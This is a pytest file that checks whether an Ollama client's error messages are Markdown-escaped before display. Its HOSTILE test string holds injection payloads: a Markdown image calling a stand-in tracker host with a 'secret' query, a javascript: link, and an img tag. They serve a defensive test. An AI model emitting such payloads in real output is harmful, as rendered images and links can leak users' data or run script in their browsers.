"""Text from the server reaches the page as Markdown: it is escaped so it shows as typed and fetches nothing."""

from __future__ import annotations

import re

import pytest

from lib.ollama.client import OllamaClient
from lib.ollama.errors import OllamaError
from lib.ui.errors import error_text
from lib.ui.markdown_safety import escape_markdown

HOSTILE = "![x](http://tracker.example/?q=secret) [click](javascript:alert(1)) <img src=x> `code` $x$ a_b *c* ~d~ \\"


@pytest.mark.parametrize(
    ("text", "quoted"),
    [
        ("model 'llama3.2:latest' not found", "model 'llama3.2:latest' not found"),
        ("pull model manifest: file does not exist", "pull model manifest: file does not exist"),
        ("![x](http://t/)", "!\\[x\\](http://t/)"),
        ("<img src=x>", "\\<img src=x\\>"),
        ("a_b *c* ~d~ `e` $f$ \\", "a\\_b \\*c\\* \\~d\\~ \\`e\\` \\$f\\$ \\\\"),
    ],
)
def test_markdown_openers_are_escaped(text, quoted):
    assert escape_markdown(text) == quoted


@pytest.mark.parametrize(
    ("kind", "params"),
    [
        ("http", {"status": 400, "message": HOSTILE}),
        ("http", {"status": 401, "message": HOSTILE}),
        ("error_line", {"after": 1, "message": HOSTILE}),
    ],
)
def test_server_error_text_cannot_open_markdown(fake, kind, params):
    fake.add_fault("/api/chat", kind, **params)
    client = OllamaClient(fake.url)
    with pytest.raises(OllamaError) as caught:
        list(client.chat_stream("llama3.2", [{"role": "user", "content": "hi"}]))
    message = error_text(caught.value)
    assert "!\\[x\\](http://tracker.example/?q=secret)" in message
    assert "\\<img src=x\\>" in message
    assert re.search(r"(?<!\\)[\[<`]", message) is None  # every opener is escaped
